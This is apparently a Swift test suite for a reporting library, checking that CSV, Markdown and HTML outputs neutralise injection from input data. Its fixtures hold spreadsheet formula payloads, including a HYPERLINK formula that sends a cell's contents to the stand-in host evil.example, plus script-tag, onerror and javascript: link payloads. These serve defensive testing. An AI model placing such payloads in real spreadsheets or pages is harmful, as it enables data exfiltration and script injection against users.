import Figures
import Foundation
import Testing

@testable import Reports

/// Text from the data that would act where the outputs are opened: formulas in a spreadsheet,
/// markup and raw HTML in rendered Markdown, a scheme in a link.
@Suite("Injection: CSV formulas, Markdown, links")
struct InjectionTests {
  /// Text cells a spreadsheet would run or turn into a number.
  static let formulas = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=1+1", "+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1",
    "-x", "+", "-", "-3e5", "-.5", "--3", "-3.", "+3",
  ]

  static func parse(_ text: String) throws -> CSVTable {
    try CSVReader.parse(Array(text.utf8), path: "out.csv")
  }

  @Test(
    "CSVWriter: a text cell starting with = + - @ tab or CR reads back as itself after an apostrophe, quoted"
  )
  func writerNeutralises() throws {
    var w = CSVWriter(header: ["text", "number"])
    for t in Self.formulas { w.append([t, CSVWriter.cell(-2.5)]) }
    let table = try Self.parse(w.text)
    #expect(table.records.count == Self.formulas.count)
    for (record, original) in zip(table.records, Self.formulas) {
      #expect(record.fields[0].value == "'" + original)
      #expect(record.fields[1].value == "-2.5")
    }
    // OWASP's form: quoted, apostrophe first, quotes doubled.
    #expect(w.text.split(separator: "\n")[2] == "\"'=1+1\",-2.5")
    #expect(CSVWriter.escape("=1+1") == "\"'=1+1\"")
    #expect(CSVWriter.escape("@x,y") == "\"'@x,y\"")
  }

  @Test(
    "CSVWriter: numbers, negative ones included, and other text are written as they are",
    arguments: ["-3", "-0.25", "-12345.678", "0", "42", "a=1", "'x", "plain", "x-1", ""])
  func writerKeeps(cell: String) throws {
    var w = CSVWriter(header: ["a"])
    w.append([cell])
    #expect(w.text == "a\n\(cell)\n")
  }

  @Test("Number cells the writer makes stay numbers: negative values are never prefixed")
  func negativeNumbers() {
    for x in [-1.0, -0.000123, -123456789.125, -1e-7, -3e20] {
      let cell = CSVWriter.cell(x)
      #expect(cell.hasPrefix("-"))
      #expect(CSVWriter.escape(cell) == cell, "\(cell)")
    }
  }

  /// A plain file (printable ASCII, no verbal text, no warnings) whose ids, sources and
  /// documents start with formula characters.
  static let plainFile = """
    id,quantity,value,low,high,unit,period,source,published,document
    "=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",=q,,100,400,persons,2001,"=HYPERLINK(""http://evil.example/"",""s"")",2002,=doc
    =1+1,=q,,150,300,persons,2002,+1,2003,+doc
    -2+3,=q,,120,500,persons,2003,-2+3,2004,-doc
    @SUM(A1),=q,,90,250,persons,2004,@SUM(A1),2005,@doc
    plain,=q,,110,350,persons,2001,HRW,2002,doc
    p1,+p,,10,20,units,2001,src,2002,doc

    """

  @Test(
    "ranges CSV: the plain-record path and the whole-file path neutralise the same cells, numbers stay numbers"
  )
  func rangesBothPaths() throws {
    let path = try RangesByQuantityTests.write(Self.plainFile, name: "formulas.csv")
    defer {
      try? FileManager.default.removeItem(atPath: (path as NSString).deletingLastPathComponent)
    }
    let whole = try RangesPlainRowsTests.wholeFile(path, [])
    // Both quantities are plain: their rows are written from the records' bytes.
    let spill = try #require(QuantitySpill.make(path: path))
    let columns = try #require(spill.columns)
    for k in spill.quantities.indices {
      let bytes = try RangesAnalysis.plainCSV(
        spill, k, records: try spill.records(of: k), columns: columns, header: false, coverage: 0.8,
        level: 0.9)
      #expect(bytes != nil, "\(spill.quantities[k]) takes the plain-record path")
    }
    #expect(RangesPlainRowsTests.byQuantity(path, [], plainRows: true) == whole)

    let table = try Self.parse(whole)
    let names = table.header.map(\.value)
    func column(_ name: String) throws -> [String] {
      let c = try #require(names.firstIndex(of: name))
      return table.records.map { c < $0.fields.count ? $0.fields[c].value : "" }
    }
    let ids = try column("id")
    for id in ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=1+1", "-2+3", "@SUM(A1)"] {
      #expect(ids.contains("'" + id), "\(id)")
    }
    #expect(ids.contains("plain"))
    #expect(try column("source").contains("'+1"))
    #expect(try column("document").contains("'@doc"))
    #expect(try column("quantity").allSatisfy { $0 == "'=q" || $0 == "'+p" })
    #expect(try column("label").contains("'=1+1 2002: 150–300") == false)
    #expect(try column("label").contains("'+1 2002: 150–300"))
    // No cell is left that a spreadsheet would run: each one starting with a formula
    // character is a plain number.
    for record in table.records {
      for f in record.fields where f.value.first.map({ "=+-@\t\r".contains($0) }) == true {
        #expect(CSVWriter.isPlainNumber(f.value.utf8), "\(f.value)")
      }
    }
    // JSON keeps the text exactly.
    let file = try FiguresReader.read(path: path)
    let json = RangesAnalysis.json(try RangesAnalysis.run([file], quantities: [])).serialized()
    #expect(json.contains("\"id\": \"=1+1\""))
    #expect(!json.contains("'=1+1"))
  }

  @Test("ranges CSV: negative figures and pooled bounds stay numbers")
  func negativeFigures() throws {
    let path = try RangesByQuantityTests.write(
      "id,quantity,value,low,high\nn1,-n,-5,,\nn2,-n,,-8,-2\nn3,-n,,-6,3\n", name: "negative.csv")
    defer {
      try? FileManager.default.removeItem(atPath: (path as NSString).deletingLastPathComponent)
    }
    let table = try Self.parse(try RangesPlainRowsTests.wholeFile(path, []))
    let rows = table.records.map { $0.fields.map(\.value) }
    #expect(rows.allSatisfy { $0[0] == "'-n" })
    // low, mid, high, value of n1 and n2: plain negative numbers, no apostrophe.
    #expect(Array(rows[0][4...7]) == ["-5", "-5", "-5", "-5"])
    #expect(Array(rows[1][4...6]) == ["-8", "-5", "-2"])
    #expect(rows.contains { $0[1] == "envelope" && $0[4] == "-8" })
  }

  @Test("claims CSV: ids, claims, sources, documents and quotes neutralised")
  func claimsCSV() throws {
    let result = ClaimResult(
      id: "=1+1", claim: "+SUM(1)", status: .fail, computed: -2, stated: 0, detail: "-2 < 0",
      location: SourceLocation(path: "claims.csv", line: 2), op: "<", source: "@SUM(A1)",
      document: "-2+3",
      quote: "=HYPERLINK(\"http://evil.example/\",\"c\")")
    let table = try Self.parse(ClaimsAnalysis.csv(ClaimsReport(results: [result])).text)
    let fields = try #require(table.records.first).fields.map(\.value)
    for text in [
      "=1+1", "+SUM(1)", "@SUM(A1)", "-2+3", "=HYPERLINK(\"http://evil.example/\",\"c\")", "-2 < 0",
    ] {
      #expect(fields.contains("'" + text), "\(text)")
    }
    #expect(fields.contains("-2"), "the computed value stays a number")
  }

  // MARK: - Markdown

  @Test(
    "Markdown.text: HTML as entities, Markdown punctuation backslash-escaped, line ends as spaces")
  func markdownText() {
    #expect(Markdown.text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;")
    #expect(Markdown.text("a & b") == "a &amp; b")
    for ch in ["\\", "`", "*", "_", "{", "}", "[", "]", "#", "|"] {
      #expect(Markdown.text("a\(ch)b") == "a\\\(ch)b", "\(ch)")
    }
    #expect(Markdown.text("one\r\ntwo\nthree\rfour") == "one two three four")
    #expect(
      Markdown.text("Amnesty International, 2001: 10,000–300,000")
        == "Amnesty International, 2001: 10,000–300,000")
    #expect(Markdown.code("a`b") == "``a`b``")
    #expect(Markdown.code("`x") == "`` `x ``")
    #expect(Markdown.code("<b>") == "`<b>`")
  }

  /// Cells of a Markdown table row: split on pipes that are not backslash-escaped.
  static func cells(_ line: Substring) -> Int {
    var count = 0
    var escaped = false
    for ch in line {
      if escaped {
        escaped = false
      } else if ch == "\\" {
        escaped = true
      } else if ch == "|" {
        count += 1
      }
    }
    return count
  }

  /// Whether `needle` occurs in `text` without a backslash before it (markup, not text).
  static func containsUnescaped(_ needle: String, in text: String) -> Bool {
    var rest = Substring(text)
    while let r = rest.range(of: needle) {
      if r.lowerBound == rest.startIndex || rest[rest.index(before: r.lowerBound)] != "\\" {
        return true
      }
      rest = rest[r.upperBound...]
    }
    return false
  }

  static let hostileFile = """
    id,quantity,low,high,unit,period,source,published,document,quote
    *a*|b,q_[x](javascript:alert(1)),100,400,persons,2001,<script>alert(1)</script> | x,2002,`doc`.txt,"<img src=x onerror=alert(1)> [link](javascript:alert(1)) {: onclick=""x""}"
    b,q_[x](javascript:alert(1)),150,300,persons,2002,HRW,2003,doc.txt,plain

    """

  @Test("report.md and index.md: no raw HTML, no link and no extra table column from the data")
  func reportMarkdown() throws {
    let path = try RangesByQuantityTests.write(Self.hostileFile, name: "b.csv")
    defer {
      try? FileManager.default.removeItem(atPath: (path as NSString).deletingLastPathComponent)
    }
    let report = try ReportBuilder.analyse(
      try FiguresReader.read(path: path), name: "<b>x</b>[y](javascript:z)")
    let md = ReportBuilder.markdown(report)
    let index = ReportBuilder.index([report])
    for text in [md, index] {
      #expect(!text.contains("<"), "\(text)")
      #expect(!Self.containsUnescaped("](javascript", in: text), "\(text)")
      #expect(!Self.containsUnescaped("{:", in: text))
      // Every row of a table has as many cell separators as its header.
      var width: Int? = nil
      for line in text.split(separator: "\n") {
        guard line.hasPrefix("|") else {
          width = nil
          continue
        }
        let n = Self.cells(line)
        if let width { #expect(n == width, "\(line)") } else { width = n }
      }
    }
    #expect(
      md.contains(
        "&lt;img src=x onerror=alert(1)&gt; \\[link\\](javascript:alert(1)) \\{: onclick=\"x\"\\}"))
    #expect(md.contains("| \\*a\\*\\|b |"))
    #expect(index.contains("](./%3Cb%3Ex%3C%2Fb%3E%5By%5D%28javascript%3Az%29/report.md)"))
  }

  @Test("claims report.md: ids, claims, details and sources escaped")
  func claimsMarkdown() {
    let result = ClaimResult(
      id: "<b>id</b>", claim: "a | b", status: .fail, computed: 1, stated: 2,
      detail: "[x](javascript:y)",
      location: SourceLocation(path: "claims.csv", line: 2), op: "<", source: "*s*")
    let md = ClaimsAnalysis.markdown(ClaimsReport(results: [result]))
    #expect(!md.contains("<b>"))
    #expect(md.contains("&lt;b&gt;id&lt;/b&gt;"))
    #expect(md.contains("a \\| b"))
    #expect(md.contains("\\[x\\](javascript:y)"))
    #expect(md.contains("\\*s\\*"))
    let lines = md.split(separator: "\n").filter { $0.hasPrefix("|") }
    #expect(Set(lines.map(Self.cells)).count == 1)
  }

  // MARK: - Links

  @Test("Relative links: percent-encoded segments after ./, so a colon is never a scheme")
  func links() throws {
    #expect(
      RelativeLink.path(["javascript:document.title='x';0", "report.html"])
        == "./javascript%3Adocument.title%3D%27x%27%3B0/report.html")
    #expect(RelativeLink.path(["..", "claims", "report.md"]) == "../claims/report.md")
    for name in ["a#b", "c?d", "50%", "e f", "Sécurité", "x/y", "(1)"] {
      let link = RelativeLink.path([name, "report.html"])
      #expect(link.hasPrefix("./"))
      let segment = String(link.dropFirst(2).dropLast("/report.html".count))
      #expect(!segment.contains { "#?/: ()".contains($0) }, "\(link)")
      #expect(segment.removingPercentEncoding == name, "\(link)")
    }
  }

  @Test("index.html links each dataset by its encoded relative path")
  func htmlIndexLinks() throws {
    let path = try RangesByQuantityTests.write(Self.plainFile, name: "f.csv")
    defer {
      try? FileManager.default.removeItem(atPath: (path as NSString).deletingLastPathComponent)
    }
    let report = try ReportBuilder.analyse(
      try FiguresReader.read(path: path), name: "javascript:document.title='x';0")
    let html = HTMLReport.index([report])
    #expect(!html.contains("href=\"javascript"))
    #expect(html.contains("href=\"./javascript%3Adocument.title%3D%27x%27%3B0/report.html\""))
    let hrefs = html.components(separatedBy: "href=\"").dropFirst().map { $0.prefix { $0 != "\"" } }
    // The page, ranges.csv, summary.json, report.md and trajectory.csv (=q's statements cover
    // 2001–2004; #28); no trend.csv: the file has no series.
    #expect(hrefs.count == 5)
    #expect(hrefs.contains { $0.hasSuffix("/trajectory.csv") }, "\(hrefs)")
    #expect(!html.contains("trend.csv"))
    for h in hrefs { #expect(h.hasPrefix("./") && !h.contains(":"), "\(h)") }
  }
}
